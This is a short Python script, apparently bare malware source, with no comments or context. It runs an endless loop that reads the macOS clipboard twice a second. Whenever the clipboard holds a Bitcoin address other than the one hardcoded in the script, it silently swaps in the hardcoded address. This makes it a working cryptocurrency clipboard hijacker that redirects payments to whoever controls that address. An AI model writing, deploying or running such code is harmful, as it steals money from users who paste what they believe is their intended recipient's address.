import re, subprocess, time

ADDR = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

while True:
    clip = subprocess.run(["pbpaste"], capture_output=True, text=True).stdout.strip()
    if BTC.match(clip) and clip != ADDR:
        subprocess.run(["pbcopy"], input=ADDR, text=True)
    time.sleep(0.5)
